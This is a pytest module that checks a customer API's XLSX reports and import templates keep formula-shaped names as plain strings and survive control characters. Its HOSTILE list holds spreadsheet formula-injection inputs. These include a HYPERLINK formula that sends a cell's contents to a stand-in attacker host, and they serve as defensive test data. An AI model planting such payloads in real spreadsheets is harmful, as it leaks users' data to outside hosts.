"""Every XLSX the platform writes holds its text as inert strings, whatever the text is.

Names shaped like spreadsheet formulas (OWASP's CSV-injection triggers: = + - @, tab, CR and
their full-width forms) must come back as the exact text in string cells, never as formulas;
characters XML cannot carry must not make a report fail for every caller.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator, Iterator

import asyncpg
import httpx
import pytest
from fastapi import FastAPI
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from customer_api import deps
from customer_api.imports import template
from customer_api.imports.columns import COLUMNS, Column, ImportKind
from guarantee_shared.clients.alerting import AlertingClient
from tests.customer_api.report_book import AS_OF, ReportBook, build

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A3,"详情 details")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=1+1",
    "＝１＋１",  # full-width equals: Excel and WPS accept it as a formula prefix
    "#N/A",  # an error code, which openpyxl would type as an error cell
]


@pytest.fixture(autouse=True)
def alerting_down(app: FastAPI) -> Iterator[None]:
    """The report reads alerts from the alerting service; none runs here."""

    def refuse(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("connection refused", request=request)

    async def client() -> AsyncIterator[AlertingClient]:
        transport = httpx.MockTransport(refuse)
        async with AlertingClient("http://alerting.test", token="t", transport=transport) as c:
            yield c

    app.dependency_overrides[deps.alerting_client] = client
    yield
    app.dependency_overrides.pop(deps.alerting_client, None)


@pytest.fixture
async def book(db: asyncpg.Connection) -> ReportBook:
    return await build(db)


async def _rename(client: httpx.AsyncClient, customer: object, **fields: str) -> None:
    url = f"/v1/customers/{customer}"
    current = await client.get(url)
    assert current.status_code == 200, current.text
    response = await client.patch(url, json=fields, headers={"If-Match": current.headers["etag"]})
    assert response.status_code == 200, response.text


async def _xlsx_report(client: httpx.AsyncClient) -> Workbook:
    response = await client.get("/v1/reports/review", params={"as_of": AS_OF, "format": "xlsx"})
    assert response.status_code == 200, response.text
    return load_workbook(io.BytesIO(response.content))


def _cells(workbook: Workbook) -> list[tuple[str, str, object, str]]:
    return [
        (sheet.title, cell.coordinate, cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _no_formulas(workbook: Workbook) -> None:
    formulas = [c for c in _cells(workbook) if c[3] == "f"]
    assert formulas == []


async def test_formula_shaped_names_are_exact_strings_in_the_report(
    client: httpx.AsyncClient, book: ReportBook
) -> None:
    # Each customer shows in a sheet: A and B largest customers (and their group), C high
    # risk, E warnings, F reviews due.
    await _rename(client, book.a, name=HOSTILE[0], related_group=HOSTILE[4])
    await _rename(client, book.b, name=HOSTILE[1], related_group=HOSTILE[4])
    await _rename(client, book.c, name=HOSTILE[2])
    await _rename(client, book.e, name=HOSTILE[3])
    await _rename(client, book.f, name=HOSTILE[5] + HOSTILE[6])

    workbook = await _xlsx_report(client)

    _no_formulas(workbook)
    strings = {value for _, _, value, kind in _cells(workbook) if kind == "s"}
    # What the API stored is what the sheet shows, character for character.
    stored = set()
    for customer in (book.a, book.b, book.c, book.e, book.f):
        body = (await client.get(f"/v1/customers/{customer}")).json()
        stored |= {body["name"], body["related_group"]} - {None}
    assert set(HOSTILE[:5]) <= stored
    assert stored <= strings
    largest = workbook["最大客户 Largest customers"]
    assert (largest["A2"].value, largest["A2"].data_type) == (HOSTILE[0], "s")
    groups = workbook["最大集团 Largest groups"]
    assert (groups["A2"].value, groups["A2"].data_type) == (HOSTILE[4], "s")


async def test_a_control_character_in_a_stored_name_does_not_break_the_report(
    client: httpx.AsyncClient, db: asyncpg.Connection, book: ReportBook
) -> None:
    # Written past the API on purpose: rows stored before input checks existed look like this.
    await db.execute(
        "UPDATE customer.customers SET name = $2 WHERE id = $1", book.a, "A\x01甲\x1b[31m精密\x1f"
    )
    await db.execute(
        "UPDATE customer.customers SET name = $2 WHERE id = $1", book.c, "C\ufffe丙\x0b建材"
    )

    workbook = await _xlsx_report(client)

    _no_formulas(workbook)
    largest = workbook["最大客户 Largest customers"]
    assert largest["A2"].value == "A\ufffd甲\ufffd[31m精密\ufffd"
    high_risk = workbook["高风险 High risk"]
    assert high_risk["A2"].value == "C\ufffd丙\ufffd建材"


@pytest.mark.parametrize(
    ("examples", "shown"),
    [(HOSTILE, HOSTILE), (["\x07bell", "tab\there"], ["\ufffdbell", "tab\there"])],
    ids=["formulas", "controls"],
)
async def test_the_import_template_writes_examples_as_strings(
    client: httpx.AsyncClient,
    monkeypatch: pytest.MonkeyPatch,
    examples: list[str],
    shown: list[str],
) -> None:
    columns = tuple(Column(f"field_{i}", example=text) for i, text in enumerate(examples))
    monkeypatch.setattr(template, "COLUMNS", {**COLUMNS, ImportKind.customers: columns})

    response = await client.get("/v1/imports/template", params={"format": "xlsx"})

    assert response.status_code == 200, response.text
    workbook = load_workbook(io.BytesIO(response.content))
    _no_formulas(workbook)
    assert [(c.value, c.data_type) for c in workbook["customers"][2]] == [
        (text, "s") for text in shown
    ]


async def test_the_real_import_template_has_no_formula(client: httpx.AsyncClient) -> None:
    response = await client.get("/v1/imports/template", params={"format": "xlsx"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    _no_formulas(workbook)
    for kind in ImportKind:
        text = await client.get("/v1/imports/template", params={"format": "csv", "kind": kind})
        assert text.status_code == 200
        # The CSV template is our own example text: none of it may open as a formula.
        rows = csv.reader(io.StringIO(text.content.decode("utf-8-sig")))
        fields = [field for row in rows for field in row]
        assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")], kind
